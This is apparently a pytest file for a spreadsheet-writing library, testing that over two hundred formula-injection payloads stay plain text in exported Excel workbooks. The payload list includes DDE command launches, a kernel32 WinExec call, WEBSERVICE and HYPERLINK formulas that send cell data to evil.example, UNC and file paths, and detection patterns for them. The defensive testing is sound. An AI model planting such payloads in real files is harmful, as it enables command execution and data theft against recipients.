"""Texts that a spreadsheet would work out, call or link stay texts, whichever way they are written (G8)."""

import re
from collections.abc import Callable, Mapping
from itertools import product
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest

from tdsxl.sheets.fresh.share_copy import Shared, share_copy
from tdsxl.sheets.keys import name_of
from tdsxl.sheets.texts import clean
from tdsxl.tables import Cell, Sheet, Table
from tests.calc.fixtures import Opener
from tests.sheets import foreign
from tests.sheets.calc_view import Seen, calc_view
from tests.sheets.excel.samples import excel_book
from tests.sheets.samples import CHALLANS, NOTICES, Row, challan, file_book, make_book, notice, part_of, table, update

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "==", "=-", "\u200b=", "{=", '"=')
CALLS = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://evil.example/"&A1,"click")',
    'DDE("cmd";"/c calc";"x")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    "SUM(1,2)*cmd|' /C calc'!A0",
    r"'\\evil.example\s\[b.xlsx]S'!A1",
    'IMPORTXML("http://evil.example","//a")',
    'REGISTER.ID("kernel32","WinExec")',
    "INDIRECT(A1)",
)
LINKS = (
    *("http://evil.example", "https://evil.example/a?b=c&d=<e>", "file:///c:/windows/win.ini", r"\\evil.example\share"),
    *(
        "ms-word:ofe|u|http://evil.example/a.docx",
        "ms-excel:ofv|u|//evil",
        "mailto:a@evil.example",
        "javascript:alert(1)",
    ),
    *("<a href='http://evil.example'>a</a>", "[a](http://evil.example)", "#Home!A1", "#REF!", "#N/A", "#NAME?"),
    *("TRUE", "false", "1E5", "1e400", "0x10", "1/2", "03/04/2026", "12:30", "0510308", "00012", "₹ 1,00,000", "50%"),
    *("NaN", "Infinity", "_x000D_", "_x0041_ _x005F_", "&lt;f&gt;1&lt;/f&gt;", "<f>1+1</f>", "]]>", "<!--", "\u202e=1"),
    *("R1C1", "Sheet1!A1", "'twas", '""', "  two  blanks  ", "a\tb", "a\nb", "a\r\nb", "{1,2}", "१२३"),
)
PAYLOADS = (*(start + call for start, call in product(STARTS, CALLS)), *LINKS)
SHEETS = ("Notices & Orders", "Challans")
TEXTS = ("Client name", "Group", "Category", "Description", "Status", "Bank reference", "Nature of payment")


def rows(*, filled: bool = True) -> tuple[Table, ...]:
    """Each payload in columns of text, of long text and of codes; or the same rows with nothing there."""
    return tuple(
        table(sheet, [_with(sheet, row(number), text if filled else "") for number, text in enumerate(PAYLOADS)])
        for sheet, row in ((NOTICES, notice), (CHALLANS, challan))
    )


def _with(sheet: Sheet, row: Row, text: str) -> Row:
    return tuple(text if at.title in TEXTS else value for at, value in zip(sheet.columns, row, strict=True))


def by_merge(path: Path) -> None:
    """Into a book that another program has saved: cell by cell."""
    file_book(make_book(path)).write(update(*rows(filled=False)), {})
    foreign.by_openpyxl(path)
    file_book(path).write(update(*rows()), {})


def anew(path: Path) -> None:
    """Into a book that we alone have written: all rows anew."""
    texts: Mapping[str, Cell] = {"Name on portal": PAYLOADS[0], "Message": PAYLOADS[1]}
    file_book(make_book(path)).write(update(*rows(), clients={5: texts}), {})


def as_copy(path: Path) -> None:
    """Into a copy to send."""
    checks = [{"Client name": text, "Result": text} for text in PAYLOADS]
    notes = {
        name_of(made.sheet, row): {"Remark": PAYLOADS[0], PAYLOADS[1]: "x"} for made in rows() for row in made.rows()
    }
    tables = [Shared(made.sheet, made.rows(), notes) for made in rows()]
    share_copy(path, title=PAYLOADS[0], as_on=PAYLOADS[1], checks=checks, tables=tables)


def texts_of(path: Path, title: str) -> list[set[str]]:
    """What stands in the columns of text of each row, as openpyxl reads it."""
    sheet = openpyxl.load_workbook(path)[title]
    titles, *found = sheet.iter_rows(min_row=4)
    places = [number for number, cell in enumerate(titles) if cell.value in TEXTS]
    assert {row[place].data_type for row in found for place in places} == {"s"}
    return [{unescaped(str(row[place].value)) for place in places} for row in found]


def unescaped(text: str) -> str:
    """Openpyxl leaves the escapes of the file format as they stand."""
    return text.replace("_x005F_", "_")


def prove_file(path: Path) -> None:
    """Nothing in the file calls or links."""
    with ZipFile(path) as book:
        parts = {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}
    assert not [title for title in SHEETS if re.search("<f[ />]", parts[part_of(path, title)])]
    formulas = {formula for part in parts.values() for formula in re.findall(r"<f[ >].*?</f>", part)}
    assert not [formula for formula in formulas if re.search("evil|cmd|1\\+1|REGISTER", formula)]
    assert not [name for name in parts if "externalLink" in name or "connections" in name]
    assert not [name for name, part in parts.items() if 'TargetMode="External"' in part or "<ddeLink" in part]
    assert not [part for part in parts.values() if re.search("<hyperlink [^>]*r:id", part)]


def test_there_are_two_hundred() -> None:
    """Each is another one."""
    assert len({*map(clean, PAYLOADS)}) >= 200


@pytest.mark.fault
@pytest.mark.row("C14", "C16")
@pytest.mark.parametrize("write", [by_merge, anew, as_copy])
def test_no_text_becomes_a_formula_or_a_link(tmp_path: Path, write: Callable[[Path], None]) -> None:
    """Two hundred of them in every kind of column: no formula, no foreign link, no other text."""
    path = tmp_path / "book.xlsx"
    write(path)
    prove_file(path)
    for title in SHEETS:
        assert texts_of(path, title) == [{clean(text)} for text in PAYLOADS]


@pytest.mark.calc
@pytest.mark.fault
@pytest.mark.row("C14", "C16")
@pytest.mark.parametrize("write", [by_merge, anew, as_copy])
def test_calc_sees_texts(tmp_path: Path, write: Callable[[Path], None]) -> None:
    """A spreadsheet program that recomputes the book finds the same texts."""
    path = tmp_path / "book.xlsx"
    write(path)
    for title, grid in calc_view(path).items():
        if title in SHEETS:
            titles = [cell.value for cell in grid[3]]
            for row, text in zip(grid[4:], PAYLOADS, strict=False):
                assert {row[at] for at, name in enumerate(titles) if name in TEXTS} == {Seen(clean(text))}


@pytest.mark.calc
@pytest.mark.fault
@pytest.mark.row("C16", "E10")
def test_an_open_book_takes_texts(tmp_path: Path, calc_book: Opener) -> None:
    """Through xlwings, where each text is read as if it were typed."""
    path = make_book(tmp_path / "book.xlsx")
    opened = calc_book(path)
    excel_book(path).write(update(*rows()), {})
    opened.save()
    # Calc saves texts that look like escapes as they stand.
    for title in SHEETS:
        assert texts_of(path, title) == [{unescaped(clean(text))} for text in PAYLOADS]
    grids = calc_view(path)
    assert not [cell for title in SHEETS for row in grids[title] for cell in row if cell.is_formula or cell.has_link]
